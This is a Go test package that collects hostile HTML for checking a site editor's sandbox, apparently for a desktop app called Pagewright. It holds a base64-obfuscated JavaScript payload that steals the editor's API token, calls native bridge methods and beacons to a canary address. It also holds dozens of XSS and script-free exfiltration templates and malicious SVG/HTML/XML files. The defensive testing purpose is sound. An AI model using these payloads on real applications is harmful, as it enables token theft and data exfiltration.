// Package attack is a collection of ways in which a site's content tries to
// run a script in the editor, to reach the program behind it, or to send
// something out. Tests show that none does. It is used by tests alone.
package attack

import (
	"encoding/base64"
	"fmt"
	"html"
	"strings"
)

// Try is one attempt.
type Try struct {
	Name string
	HTML string // what stands in the page's body
}

// script returns JavaScript, without quotes or angle brackets in it, that
// tries every way out: a forged file drop, an event, a bound method, a call of
// the API with the editor's own token, and a request to the canary.
func script(canary, name string) string {
	body := `(function(){
var send=function(m){
 try{window.webkit.messageHandlers.external.postMessage(m)}catch(e){}
 try{parent.webkit.messageHandlers.external.postMessage(m)}catch(e){}
 try{parent.WailsInvoke(m)}catch(e){}
};
send('DD:1:1:/hostile/` + name + `');
send('C{"name":"main.App.Secret","args":[],"callbackID":"x-1"}');
send('BO:` + canary + `/browser/` + name + `');
var token='';try{token=parent.document.querySelector('meta[name=pagewright-token]').content}catch(e){}
try{fetch('/api/app.browse',{method:'POST',headers:{'Content-Type':'application/json','X-Pagewright-Token':token},body:JSON.stringify({address:'` + canary + `/call/` + name + `'})}).catch(function(){})}catch(e){}
try{new Image().src='` + canary + `/script/` + name + `'}catch(e){}
try{parent.document.title='hostile'}catch(e){}
})()`
	return "eval(atob(`" + base64.StdEncoding.EncodeToString([]byte(body)) + "`))"
}

// scripted are ways to run a script: %s is the script, %[2]s the same escaped
// for an attribute in double quotes.
func scripted() map[string]string {
	return map[string]string{
		"script":              `<script>%[1]s</script>`,
		"script-type":         `<script type=module>%[1]s</script>`,
		"script-data":         `<script src="data:text/javascript,%[2]s"></script>`,
		"script-nested":       `<scr<script>ipt>%[1]s</scr</script>ipt><script>%[1]s</script>`,
		"script-upper":        `<ScRiPt >%[1]s</sCrIpT >`,
		"script-slash":        `<script/x>%[1]s</script/x>`,
		"img-onerror":         `<img src=x onerror="%[2]s">`,
		"img-onload":          `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="%[2]s" onerror="%[2]s">`,
		"img-broken-quote":    `<img """><script>%[1]s</script>">`,
		"body-onload":         `<body onload="%[2]s">`,
		"body-onpageshow":     `<body onpageshow="%[2]s">`,
		"svg-onload":          `<svg onload="%[2]s">`,
		"svg-slash-onload":    `<svg/onload="%[2]s">`,
		"svg-script":          `<svg><script>%[1]s</script></svg>`,
		"svg-script-href":     `<svg><script href="data:text/javascript,%[2]s" /></svg>`,
		"svg-animate":         `<svg><animate onbegin="%[2]s" attributeName=x dur=1s>`,
		"svg-set":             `<svg><set attributeName=x onbegin="%[2]s" to=1>`,
		"svg-foreign":         `<svg><foreignObject><iframe srcdoc="<script>parent.%[2]s</script>"></iframe></foreignObject></svg>`,
		"svg-use-data":        `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='%[2]s'/></svg>#x"/></svg>`,
		"math-xlink":          `<math><mtext><img src=x onerror="%[2]s"></mtext></math>`,
		"math-mutation":       `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=%[2]s&gt;"></table></math>`,
		"noscript-mutation":   `<noscript><p title="</noscript><img src=x onerror=%[2]s>">`,
		"template":            `<template><script>%[1]s</script></template><svg></p><style><a id="</style><img src=1 onerror=%[2]s>">`,
		"iframe-srcdoc":       `<iframe srcdoc="<script>%[2]s</script>"></iframe>`,
		"iframe-javascript":   `<iframe src="javascript:%[2]s"></iframe>`,
		"iframe-data":         `<iframe src="data:text/html,<script>%[2]s</script>"></iframe>`,
		"iframe-sandboxed":    `<iframe sandbox="allow-scripts" srcdoc="<script>%[2]s</script>"></iframe>`,
		"iframe-blank":        `<iframe src="about:blank" onload="%[2]s"></iframe>`,
		"object-data":         `<object data="data:text/html,<script>%[2]s</script>"></object>`,
		"object-svg":          `<object type="image/svg+xml" data="/canvas/site/media/evil.svg"></object>`,
		"embed-svg":           `<embed type="image/svg+xml" src="/canvas/site/media/evil.svg">`,
		"embed-data":          `<embed src="data:text/html,<script>%[2]s</script>">`,
		"frame-svg":           `<iframe src="/canvas/site/media/evil.svg"></iframe>`,
		"frame-html":          `<iframe src="/canvas/site/media/evil.html"></iframe>`,
		"frame-xml":           `<iframe src="/canvas/site/media/evil.xml"></iframe>`,
		"refresh-svg":         `<meta http-equiv=refresh content="0;url=/canvas/site/media/evil.svg">`,
		"refresh-html":        `<meta http-equiv=refresh content="0;url=/canvas/site/media/evil.html">`,
		"refresh-javascript":  `<meta http-equiv=refresh content="0;url=javascript:%[2]s">`,
		"refresh-data":        `<meta http-equiv=refresh content="0;url=data:text/html,<script>%[2]s</script>">`,
		"video-onerror":       `<video><source onerror="%[2]s" src=x></video>`,
		"audio-onerror":       `<audio src=x onerror="%[2]s"></audio>`,
		"details-ontoggle":    `<details open ontoggle="%[2]s">x</details>`,
		"input-autofocus":     `<input autofocus onfocus="%[2]s">`,
		"select-autofocus":    `<select autofocus onfocus="%[2]s"></select>`,
		"div-autofocus":       `<div tabindex=1 autofocus onfocus="%[2]s">x</div>`,
		"marquee":             `<marquee onstart="%[2]s">x</marquee>`,
		"css-animation":       `<style>@keyframes a{}</style><p style="animation:a 1s" onanimationstart="%[2]s">x</p>`,
		"css-transition":      `<style>:target{color:red}</style><xss id=x style="transition:color 1s" ontransitionend="%[2]s">x</xss>`,
		"css-expression":      `<p style="width:expression(%[2]s);-moz-binding:url(data:,x)">x</p>`,
		"content-visibility":  `<p style="content-visibility:auto" oncontentvisibilityautostatechange="%[2]s">x</p>`,
		"onscrollsnapchange":  `<p onscroll="%[2]s" style="overflow:auto;height:9px"><br><br><br><br><b autofocus tabindex=1>x</b></p>`,
		"popover":             `<p popover onbeforetoggle="%[2]s" id=pop>x</p>`,
		"link-stylesheet-js":  `<link rel=stylesheet href="javascript:%[2]s">`,
		"link-import":         `<link rel=import href="data:text/html,<script>%[2]s</script>">`,
		"modulepreload":       `<link rel=modulepreload href="data:text/javascript,%[2]s">`,
		"form-formaction":     `<form><button formaction="javascript:%[2]s" autofocus>x</button></form>`,
		"custom-element":      `<xss onfocus="%[2]s" autofocus tabindex=1>x</xss>`,
		"entities":            `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;%[2]s" autofocus>x</a>`,
		"charset":             `<meta charset=utf-7>+ADw-script+AD4-%[1]s+ADw-/script+AD4-`,
		"base-javascript":     `<base href="javascript:/a/-%[2]s///////"><a href="../x" autofocus>x</a>`,
		"policy-meta":         `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><script>%[1]s</script>`,
		"import-map":          `<script type=importmap>{"imports":{"x":"data:text/javascript,1"}}</script><script type=module>import "x";%[1]s</script>`,
		"speculation":         `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["/api/app.state"]}]}</script><script>%[1]s</script>`,
		"worker":              `<script>new Worker("data:text/javascript,1");%[1]s</script>`,
		"document-write":      `<script>document.write("<img src=x onerror="+"1>");%[1]s</script>`,
		"attribute-break-out": `"><img src=x onerror="%[2]s">`,
		"title-break-out":     `</title><script>%[1]s</script>`,
		"textarea-break-out":  `<textarea></textarea><script>%[1]s</script></textarea>`,
		"comment-break-out":   `<!--><script>%[1]s</script>-->`,
		"cdata-break-out":     `<svg><![CDATA[><img src=x onerror="%[2]s">]]></svg>`,
		"style-break-out":     `<style></style><script>%[1]s</script></style>`,
	}
}

// silent are ways to send something out without a script; %s is an address.
func silent() map[string]string {
	return map[string]string{
		"leak-img":        `<img src="%[1]s">`,
		"leak-srcset":     `<img srcset="%[1]s 1x">`,
		"leak-picture":    `<picture><source srcset="%[1]s"><img src=x></picture>`,
		"leak-style":      `<style>body{background:url(%[1]s)}</style>`,
		"leak-import":     `<style>@import url(%[1]s);</style>`,
		"leak-attribute":  `<p style="background:url(%[1]s)">x</p>`,
		"leak-font":       `<style>@font-face{font-family:x;src:url(%[1]s)}p{font-family:x}</style><p>x</p>`,
		"leak-stylesheet": `<link rel=stylesheet href="%[1]s">`,
		"leak-icon":       `<link rel=icon href="%[1]s">`,
		"leak-prefetch":   `<link rel=prefetch href="%[1]s"><link rel=preload as=image href="%[1]s"><link rel=prerender href="%[1]s">`,
		"leak-refresh":    `<meta http-equiv=refresh content="0;url=%[1]s">`,
		"leak-iframe":     `<iframe src="%[1]s"></iframe>`,
		"leak-object":     `<object data="%[1]s"></object>`,
		"leak-embed":      `<embed src="%[1]s">`,
		"leak-video":      `<video src="%[1]s" poster="%[1]s" autoplay muted></video>`,
		"leak-audio":      `<audio src="%[1]s" autoplay preload=auto></audio>`,
		"leak-track":      `<video autoplay><track default src="%[1]s"></video>`,
		"leak-input":      `<input type=image src="%[1]s">`,
		"leak-background": `<table background="%[1]s"><tr><td background="%[1]s">x</table><body background="%[1]s">`,
		"leak-svg-image":  `<svg width=9 height=9><image href="%[1]s" width=9 height=9 /></svg>`,
		"leak-svg-use":    `<svg><use href="%[1]s#x"/></svg>`,
		"leak-svg-filter": `<svg><filter id=f><feImage href="%[1]s"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>`,
		"leak-cursor":     `<body style="cursor:url(%[1]s),auto">x`,
		"leak-list":       `<ul style="list-style-image:url(%[1]s)"><li>x</ul>`,
		"leak-base":       `<base href="%[1]s/"><img src="x.png">`,
		"leak-manifest":   `<link rel=manifest href="%[1]s">`,
		"leak-frameset":   `<frameset><frame src="%[1]s"></frameset>`,
		"leak-script":     `<script src="%[1]s"></script>`,
	}
}

// Tries returns every attempt. canary is the address, without a slash at its
// end, that counts what gets out; an attempt's name is the last part of the
// path it asks for.
func Tries(canary string) []Try {
	var list []Try
	for _, name := range sorted(scripted()) {
		list = append(list, Try{name, Script(scripted()[name], canary, name)})
	}
	for _, name := range sorted(silent()) {
		list = append(list, Try{name, fmt.Sprintf(silent()[name], canary+"/silent/"+name)})
	}
	return list
}

// Script fills a template with a script that calls itself name.
func Script(template, canary, name string) string {
	js := script(canary, name)
	return strings.NewReplacer("%[1]s", js, "%[2]s", html.EscapeString(js)).Replace(template)
}

// Files are documents that a site may hold and that are opened by themselves.
func Files(canary string) map[string][]byte {
	return map[string][]byte{
		"media/evil.svg":  []byte(Script(`<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="%[2]s"><script>%[1]s</script></svg>`, canary, "file-svg")),
		"media/evil.html": []byte(Script(`<!doctype html><script>%[1]s</script><img src=x onerror="%[2]s">`, canary, "file-html")),
		"media/evil.xml":  []byte(Script(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><script>%[1]s</script></body></html>`, canary, "file-xml")),
	}
}
